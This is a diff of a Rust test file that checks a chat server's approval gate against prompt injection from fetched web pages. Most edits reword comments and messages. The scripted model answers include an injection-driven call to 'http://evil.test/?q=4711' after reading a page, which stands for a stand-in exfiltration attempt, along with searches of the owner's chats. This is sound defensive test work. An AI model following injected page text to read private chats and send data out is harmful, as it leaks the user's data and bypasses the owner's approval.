@@ -1,6 +1,6 @@
-//! Text of strangers in a chat: it can ask for nothing that its owner did not allow. Pages are fetched for one host
-//! at a time, own chats are read unasked only until such text is in the chat, and all of it holds after a restart.
-//! Over the real gate, with a server on this machine that stands in for the open internet.
+//! Untrusted text in a chat can request nothing that the owner did not allow: pages are fetched for one approved host
+//! at a time, chats are searched without approval only until such text is in the chat, and all of it holds after a
+//! restart. The tests use the real gate, with a local server in place of the internet.
 
 use std::io;
 use std::net::SocketAddr;
@@ -43,10 +43,10 @@ use crate::tool_call_support::{
     is_waiting_for_approval, last_result, pending_approvals, statuses, tool_call_answer, tool_use_blocks,
 };
 
-/// Every name means this server.
+/// A resolver and server in one: every host name leads to this server.
 struct FakeInternet {
     server: SocketAddr,
-    /// The hosts that were reached, with what they were asked for.
+    /// The hosts that were reached, with the requested paths.
     reached: Mutex<Vec<String>>,
     hits: AtomicUsize,
 }
@@ -92,7 +92,8 @@ impl FakeInternet {
     }
 }
 
-/// The house with the real toolbox and these answers: another process over the same database.
+/// Replaces the server's toolbox with the real one and its answers with these, as in a new process over the same
+/// database.
 async fn server_with_internet(
     mut house: TestServer,
     internet: &Arc<FakeInternet>,
@@ -113,7 +114,7 @@ async fn server_with_internet(
     house
 }
 
-/// A new chat that offers every built-in tool.
+/// Creates a chat that offers every built-in tool.
 async fn chat_with_web_tools(house: &TestServer) -> ChatId {
     let on = built_in::describe_all().into_iter().map(|tool| tool.tool).collect();
     let new = NewChat { tools: Some(ToolChoice { on, client: Vec::new() }), ..NewChat::default() };
@@ -132,7 +133,7 @@ fn final_answer() -> ScriptedAnswer {
     streamed_answer([text_step("Done.")])
 }
 
-/// The only question of a turn, once it asks one that is another than before.
+/// Waits until a turn asks a question that is not in `before`. Returns it.
 async fn approval_question(house: &TestServer, id: TurnId, before: &[String]) -> ApprovalRequest {
     let is_new = |turn: &Turn| pending_approvals(turn).iter().any(|(_, ask)| !before.contains(&ask.hash));
     let turn = house.wait_until(id, is_new).await;
@@ -143,7 +144,7 @@ async fn send(house: &TestServer, chat: ChatId, text: &str) -> TurnId {
     house.send_to(chat, text).await.assistant_turn.id
 }
 
-/// The note of a question as a page in Chinese has it.
+/// Returns the note of a question as a Chinese page shows it.
 fn in_chinese(ask: &ApprovalRequest) -> String {
     with_locale(Locale::Chinese, || localize_server_message(ask.note.as_deref().unwrap_or_default()).into_owned())
 }
@@ -163,7 +164,7 @@ async fn injected_page_asks_before_chats_are_read_and_before_another_host_is_rea
         let chat = chat_with_web_tools(&house).await;
         let id = send(&house, chat, "Look at http://page.test/a please.").await;
 
-        // Own chats are read unasked in a chat of its owner's own words.
+        // Chats are searched without approval while the chat holds only its owner's text.
         let page = approval_question(&house, id, &[]).await;
         let turn = house.service.turn(house.owner, id).await.unwrap();
         assert_eq!(statuses(&turn), [ToolStatus::Done, ToolStatus::AwaitingApproval]);
@@ -171,14 +172,14 @@ async fn injected_page_asks_before_chats_are_read_and_before_another_host_is_rea
         assert_eq!(internet.reached_hosts(), [""; 0]);
         house.decide(id, ApprovalDecision::AllowInChat, None).await.unwrap();
 
-        // The page was read: reading chats is asked about, and the host that the page named.
+        // After the page was read, searching chats needs approval, and so does the host that the page named.
         let chats = approval_question(&house, id, std::slice::from_ref(&page.hash)).await;
         assert_eq!(internet.reached_hosts(), ["page.test/a"]);
         assert_eq!(chats.tool, "search_chats");
         assert!(chats.note.as_deref().is_some_and(|note| note.contains("text that you did not write")), "{chats:?}");
         assert_eq!(in_chinese(&chats), "此对话含有不是你写的文字，可能是它在要求这样做。");
 
-        // The same question after a restart.
+        // After a restart, the question is the same.
         let rest = vec![
             fetch_call_answer("http://evil.test/?q=4711"),
             fetch_call_answer("http://page.test/b"),
@@ -194,7 +195,7 @@ async fn injected_page_asks_before_chats_are_read_and_before_another_host_is_rea
         assert_eq!(in_chinese(&evil), "此对话含有不是你写的文字，而你的消息都没有提到 evil.test。");
         house.decide(id, ApprovalDecision::Deny, None).await.unwrap();
 
-        // A host that was allowed runs, whatever was read; one answer about chats was for one call.
+        // An allowed host needs no approval, whatever was read; the approval to search chats was for one call only.
         let again = approval_question(&house, id, std::slice::from_ref(&evil.hash)).await;
         assert_eq!(again, chats, "the same call asks the same");
         assert_eq!(internet.reached_hosts(), ["page.test/b"]);
@@ -211,7 +212,7 @@ async fn injected_page_asks_before_chats_are_read_and_before_another_host_is_rea
         assert_eq!(statuses(&turn), expected);
         house.check_invariants().await;
 
-        // Later turns of the path are exposed to it too; a host that a message names is asked about without a warning.
+        // Later turns of the path are exposed, too. A host that a message names needs approval, but gets no warning.
         let later = vec![search_call_answer(), fetch_call_answer("http://named.test/"), final_answer()];
         let house = server_with_internet(house, &internet, later).await;
         let id = send(&house, chat, "And what does https://named.test/x say?").await;
@@ -223,7 +224,7 @@ async fn injected_page_asks_before_chats_are_read_and_before_another_host_is_rea
         house.decide(id, ApprovalDecision::Always, None).await.unwrap();
         house.wait_until_complete(id).await;
 
-        // What was allowed in the chat, or always, lasts.
+        // Grants for the chat, and those for always, persist.
         let once_more = vec![search_call_answer(), fetch_call_answer("http://named.test/y"), final_answer()];
         let house = server_with_internet(house, &internet, once_more).await;
         let id = send(&house, chat, "Again.").await;
@@ -284,12 +285,12 @@ async fn imported_chat_and_copy_of_it_are_exposed_from_start_and_name_no_hosts()
         let id = send(&house, original, "Read http://evil.test/ for me.").await;
         house.wait_until_complete(id).await;
         let archive = export_archive(&house, ExportScope::Chat(original)).await;
-        // The chat itself was written here.
-        let id = send(&house, original, "Go on.").await;
+        // The original chat was written here.
+        let id = send(&house, original, "Continue.").await;
         let evil = approval_question(&house, id, &[]).await;
         assert_eq!((evil.title.as_str(), evil.note), ("Web page (evil.test)", None));
         house.service.stop_turn(house.owner, id).await.unwrap();
-        // Only where it is not known any more does its archive come in as a stranger's.
+        // The archive is untrusted only if the chat is no longer in this installation.
         house.service.delete_chat(house.owner, original).await.unwrap();
         house.service.empty_trash(house.owner).await.unwrap();
 
@@ -299,7 +300,7 @@ async fn imported_chat_and_copy_of_it_are_exposed_from_start_and_name_no_hosts()
         let copy = house.service.copy_chat(house.owner, chat, leaf, None).await.unwrap().value.chat.id;
         let house = server_with_internet(house, &internet, [script(), script()].concat()).await;
         for chat in [chat, copy] {
-            let id = send(&house, chat, "Go on.").await;
+            let id = send(&house, chat, "Continue.").await;
             let chats = approval_question(&house, id, &[]).await;
             assert_eq!(chats.tool, "search_chats");
             house.decide(id, ApprovalDecision::Deny, None).await.unwrap();
@@ -406,7 +407,7 @@ async fn damaged_policy_refuses_its_tool() {
     let chat = chat_with_web_tools(&api.house).await;
     let turn = api.house.wait_until_complete(send(&api.house, chat, "go").await).await;
     assert_eq!(statuses(&turn), [ToolStatus::Failed], "{turn:?}");
-    assert!(last_result(&turn).contains("does not allow it"), "{turn:?}");
+    assert!(last_result(&turn).contains("is disabled on this server"), "{turn:?}");
 }
 
 #[tokio::test]
@@ -434,13 +435,14 @@ async fn hosts_are_allowed_one_by_one_over_http_and_on_page() {
         api.post_form("/forms/tools/hosts", &[("tool", "fetch_page"), ("host", "c.test"), ("how", "allow")]).await;
     assert_eq!(allowed, (StatusCode::SEE_OTHER, "/settings/tools?done=saved".to_owned()));
     let page = api.get_page("/settings/tools").await;
-    for part in ["value=\"b.test\"", "value=\"c.test\"", "It asks for each host", "until the chat holds text"] {
+    for part in ["value=\"b.test\"", "value=\"c.test\"", "This tool asks once per host", "until the chat contains text"]
+    {
         assert!(page.contains(part), "{part}: {page}");
     }
     let (status, page) =
         api.post_form("/forms/tools/hosts", &[("tool", "fetch_page"), ("host", "c d"), ("how", "allow")]).await;
     assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
-    assert!(page.contains("is not a host such as example.org"), "{page}");
+    assert!(page.contains("must be a host such as example.org"), "{page}");
     let every = [("server", ""), ("tool", "fetch_page"), ("was", "ask"), ("policy", "allow")];
     assert_eq!(api.post_form("/forms/tools/policies", &every).await.0, StatusCode::UNPROCESSABLE_ENTITY);
 
